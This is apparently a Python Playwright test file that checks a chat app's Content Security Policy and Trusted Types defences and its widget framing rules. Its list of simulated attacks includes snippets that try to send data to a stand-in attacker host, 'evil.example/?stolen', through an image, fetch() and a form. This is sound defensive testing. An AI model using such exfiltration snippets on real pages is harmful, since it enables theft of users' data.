"""What the browser itself holds: no foreign code, no foreign requests or frames.

`open_page` fails a test for every complaint of the console and every request elsewhere.
"""

import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from accounts.models import Customer, Tenant, User
from accounts.scope import identity_scope, tenant_scope
from chat.identity import sign_customer
from chat.models import HttpTool
from tests.browser.conftest import TIMEOUT_MS, OpenPage
from tests.browser.people import PASSWORD, Staff, Visitor
from tests.conftest import make_conversation
from tests.local_server import Quiet, listening
from tests.stack import Stack

pytestmark = [
    pytest.mark.browser,
    pytest.mark.parametrize("stack", [("web",)], indirect=True),
]

NOTE_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation",
    event => window.violations.push(`${event.violatedDirective}: ${event.blockedURI}`));
"""
# What an attacker would have a page do, and the directive that stops it: code out of
# text does not even reach the ones about scripts.
ATTEMPTS = [
    (
        "require-trusted-types-for",
        """() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        document.body.append(script);
    }""",
    ),
    (
        "require-trusted-types-for",
        """() => {
        const button = document.createElement("button");
        button.setAttribute("onclick", "window.ran = true");
        document.body.append(button);
        button.click();
    }""",
    ),
    (
        "img-src",
        """() => {
        const image = document.createElement("img");
        image.src = "https://evil.example/?stolen";
        document.body.append(image);
    }""",
    ),
    ("connect-src", """() => fetch("https://evil.example/?stolen").catch(() => 0)"""),
    (
        "style-src-attr",
        """() => document.body.setAttribute("style", "display: none")""",
    ),
    (
        "form-action",
        """() => {
        const form = document.createElement("form");
        form.action = "https://evil.example/";
        document.body.append(form);
        form.submit();
    }""",
    ),
    (
        "base-uri",
        """() => {
        const base = document.createElement("base");
        base.href = "https://evil.example/";
        document.head.append(base);
    }""",
    ),
    (
        "require-trusted-types-for",
        """() => {
        document.createElement("script").src = "/static/js/keys.js";
    }""",
    ),
]


@pytest.fixture
def cast(desk: Tenant, ada: User, carla: User, elena: Customer) -> dict[str, Any]:
    """An admin, a compliance officer, a conversation and a tool."""
    with identity_scope():
        for user in (ada, carla):
            user.set_password(PASSWORD)
            user.save()
    with tenant_scope(desk.id):
        tool = HttpTool.objects.create(
            tenant=desk, name="orders", parameters={}, url="https://shop.example/"
        )
    return {
        "conversation": make_conversation(elena, "Hello").id,
        "customer": elena.id,
        "tool": tool.pk,
        "token": sign_customer(desk, elena.external_id, elena.name),
    }


@dataclass
class Shops:
    """Two sites with the same page: the desk has named one of them."""

    own: str = ""
    other: str = ""
    html: str = ""


@pytest.fixture
def shops(desk: Tenant) -> Iterator[Shops]:
    it = Shops()

    class Handler(Quiet, BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(it.html.encode())

    with listening(Handler) as it.own, listening(Handler) as it.other:
        with tenant_scope(desk.id):
            Tenant.objects.update(widget_sites=[it.own])
        yield it


def watched(page: Page) -> Page:
    page.add_init_script(NOTE_VIOLATIONS)
    return page


def visit(page: Page, urls: list[str]) -> None:
    for url in urls:
        response = page.goto(url)
        assert response is not None
        assert response.status == 200, url
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.violations") == [], url


def test_no_page_breaks_the_policy_or_asks_another_origin(
    cast: dict[str, Any], open_page: OpenPage
) -> None:
    admin = Staff(watched(open_page()), "ada@linden.example")
    visit(
        admin.page,
        [
            "/inbox/",
            f"/inbox/{cast['conversation']}/",
            "/customers/",
            f"/customers/{cast['customer']}/",
            "/settings/desk/",
        ],
    )
    officer = Staff(watched(open_page()), "carla@linden.example")
    visit(officer.page, ["/privacy/", "/audit/"])
    visitor = Visitor(watched(open_page()), "linden", cast["token"])
    visitor.say("Hello again")
    assert visitor.page.evaluate("window.violations") == []


def test_foreign_code_requests_and_frames_are_stopped(
    cast: dict[str, Any], shops: Shops, browser: Browser, stack: Stack
) -> None:
    page = watched(browser.new_page(base_url=stack.base_url))
    what_an_attacker_would_have_a_page_do_is_stopped(page)
    the_widget_makes_html_in_one_place(page)
    shops.html = f'<iframe src="{stack.base_url}/widget/linden/"></iframe>'
    the_widget_shows_on_the_desks_own_site_and_on_no_other(page, shops)


def what_an_attacker_would_have_a_page_do_is_stopped(page: Page) -> None:
    for url in ("/accounts/login/", "/widget/linden/"):
        for directive, attempt in ATTEMPTS:
            page.goto(url)
            here = page.url
            page.evaluate(f"() => {{ try {{ ({attempt})() }} catch {{}} }}")
            found = violations(page)
            assert directive in found, f"{url} {directive}: {found or 'nothing'}"
            assert page.evaluate("window.ran") is None
            assert page.url == here


def violations(page: Page) -> str:
    """Wait for what the browser says it stopped; empty when it says nothing in time."""
    deadline = time.monotonic() + TIMEOUT_MS / 1000
    while not (found := page.evaluate("window.violations.join()")):
        if time.monotonic() > deadline:
            break
        page.wait_for_timeout(50)
    return str(found)


def the_widget_makes_html_in_one_place(page: Page) -> None:
    page.goto("/widget/linden/")
    for attempt in (
        "trustedTypes.createPolicy('default', {})",
        "trustedTypes.createPolicy('mine', {})",
    ):
        refused = f"() => {{ try {{ {attempt} }} catch (e) {{ return e.name }} }}"
        assert page.evaluate(refused) == "TypeError", attempt


def the_widget_shows_on_the_desks_own_site_and_on_no_other(
    page: Page, shops: Shops
) -> None:
    hello = page.frame_locator("iframe").locator("#hello")
    page.goto(shops.own)
    expect(hello).to_be_visible()
    for other in (shops.other, shops.own.replace("127.0.0.1", "localhost")):
        page.goto(other)
        page.wait_for_load_state("networkidle")
        expect(hello).to_have_count(0)
        assert page.frames[1].url.startswith("chrome-error:"), other
